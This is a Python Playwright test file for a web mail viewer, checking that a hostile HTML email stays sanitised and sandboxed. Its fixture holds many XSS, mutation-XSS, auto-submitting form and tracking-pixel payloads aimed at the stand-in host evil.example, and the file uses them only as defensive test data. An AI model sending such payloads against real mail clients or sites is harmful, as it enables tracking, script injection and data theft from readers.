"""A mail that means harm, in a real browser: it asks for nothing, runs nothing, and goes nowhere."""

from collections.abc import Iterator
from contextlib import contextmanager
from typing import TYPE_CHECKING

import pytest

from tests.web.arriving import REJECTION, arrive, mail
from tests.web.conftest import Served

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page, Route

EVIL = "http://evil.example"
HOSTILE = f"""<!doctype html><html><head><title>x</title>
<base href="{EVIL}/"><meta http-equiv="refresh" content="0;url={EVIL}/refresh">
<link rel="stylesheet" href="{EVIL}/sheet.css"><link rel="prefetch" href="{EVIL}/prefetch">
<link rel="preload" as="image" href="{EVIL}/preload"><link rel="dns-prefetch" href="//evil.example">
<link rel="icon" href="{EVIL}/icon.png"><link rel="preconnect" href="{EVIL}">
<style>@import url("{EVIL}/import.css"); body {{ background: url({EVIL}/back.png) }}
@font-face {{ font-family: f; src: url({EVIL}/font) }} p {{ font-family: f }}</style>
<script src="{EVIL}/script.js"></script><script>alert("head"); document.title = "pwned"</script></head>
<body onload="alert('load')" background="{EVIL}/body.png"><p>Dear Robin, these are the words.</p>
<img src="{EVIL}/pixel.gif" width="1" height="1"><img src="x" onerror="alert('error')">
<img srcset="{EVIL}/set.png 2x" src="{EVIL}/one.png" alt="Our logo">
<picture><source srcset="{EVIL}/source.png"></picture>
<p style="background-image: url({EVIL}/inline.png)" onmouseover="alert('over')">styled</p>
<svg onload="alert('svg')"><image href="{EVIL}/svg.png"/><script>alert("svg script")</script></svg>
<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>
<object data="{EVIL}/object"></object><embed src="{EVIL}/embed">
<video src="{EVIL}/video" poster="{EVIL}/poster"></video>
<audio src="{EVIL}/audio" autoplay></audio>
<input type="image" src="{EVIL}/input.png" autofocus onfocus="alert('focus')">
<form action="{EVIL}/form" id="f"><input name="a"></form><script>document.getElementById("f").submit()</script>
<a href="javascript:alert('link')" id="js">a link</a><a href="{EVIL}/click" ping="{EVIL}/ping">www.bank.example</a>
<details open ontoggle="alert('toggle')"><summary>x</summary></details><table background="{EVIL}/table.png"><tr><td>x
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert('mutation')&gt;">
</body></html>"""


class Watch:
    """What a browser was made to do: ``asked`` is what it tried, ``reached`` what would have left the machine."""

    def __init__(self, page: "Page") -> None:
        self.asked: list[str] = []
        self.reached: list[str] = []
        self.said: list[str] = []
        self.opened: list[str] = []
        page.context.on("request", lambda request: self.asked.append(request.url))
        page.context.route(f"{EVIL}/**", self._reached)
        page.context.on("page", lambda other: self.opened.append(other.url))
        page.context.on("console", lambda message: self.said.append(message.text))
        page.on("dialog", self._dialog)

    def _reached(self, route: "Route") -> None:
        """What the browser really would have sent; what its policy stops never comes here."""
        self.reached.append(route.request.url)
        route.abort()

    def _dialog(self, dialog: object) -> None:
        self.opened.append(f"dialog {getattr(dialog, 'message', '')}")
        dialog.dismiss()  # type: ignore[attr-defined]


@contextmanager
def _signed_in(browser: "Browser", served: Served) -> Iterator[tuple["Page", Watch]]:
    context = browser.new_context(base_url=served.url)
    page = context.new_page()
    page.goto(served.link())
    page.wait_for_url(f"{served.url}/")
    watch = Watch(page)
    yield page, watch
    context.close()


def _look_everywhere(page: "Page", served: Served, number: int) -> None:
    for path in (f"/mail/{number}?html=1", f"/mail/{number}", "/", "/applications"):
        page.goto(path)
        page.wait_for_load_state("networkidle")
    with served.house.database.reading() as transaction:
        stored = transaction.mail.get(number)
    assert stored is not None
    if stored.application_id:
        page.goto(f"/conversation/{stored.application_id}")
    page.goto(f"/mail/{number}?html=1")
    page.wait_for_timeout(800)


def test_it_asks_for_nothing_and_runs_nothing(browser: "Browser", served: Served) -> None:
    number = arrive(served.house, mail(REJECTION, html=HOSTILE))

    with _signed_in(browser, served) as (page, watch):
        _look_everywhere(page, served, number)

        frame = page.frame_locator("iframe")
        frame.get_by_text("these are the words").wait_for()
        assert frame.get_by_text("Our logo").is_visible()
        assert frame.get_by_text("(evil.example)").is_visible()
        assert page.title().startswith("Your application")
    assert {each for each in watch.asked if not each.startswith(served.url)} == set()
    assert watch.opened == []
    assert watch.said == []


def test_opened_alone_it_can_do_no_more(browser: "Browser", served: Served) -> None:
    number = arrive(served.house, mail(REJECTION, html=HOSTILE))

    with _signed_in(browser, served) as (page, watch):
        page.goto(f"/mail/{number}/body")
        page.wait_for_timeout(500)

        assert page.url == f"{served.url}/mail/{number}/body"
    assert [each for each in watch.asked if "/assets/" not in each] == [f"{served.url}/mail/{number}/body"]
    assert watch.opened == []


def test_the_policy_alone_would_hold_it(browser: "Browser", served: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    """Were the cleaning to fail altogether, the frame's own policy stops all of it."""
    number = arrive(served.house, mail(REJECTION, html=HOSTILE))
    monkeypatch.setattr("heardback.web.mailview.cleaned", lambda html: html)

    with _signed_in(browser, served) as (page, watch):
        _look_everywhere(page, served, number)

        assert page.url == f"{served.url}/mail/{number}?html=1"
        assert page.title().startswith("Your application")
    assert watch.reached == []
    assert watch.opened == []


def test_a_link_of_a_mail_opens_a_tab_that_knows_nothing_of_this_page(browser: "Browser", served: Served) -> None:
    number = arrive(served.house, mail(f"{REJECTION}\nhttp://calder.example/portal\n", html=HOSTILE))

    with _signed_in(browser, served) as (page, watch):
        page.context.route(
            f"{EVIL}/**",
            lambda route: route.fulfill(
                body="<script>document.title=String(window.opener)</script>", content_type="text/html"
            ),
        )
        page.goto(f"/mail/{number}?html=1")
        with page.context.expect_page() as opening:
            page.frame_locator("iframe").get_by_text("www.bank.example").click()
        other = opening.value
        other.wait_for_load_state()

        assert other.url == f"{EVIL}/click"
        assert other.title() == "null"
        assert other.evaluate("document.referrer") == ""
    assert not [each for each in watch.asked if "ping" in each]
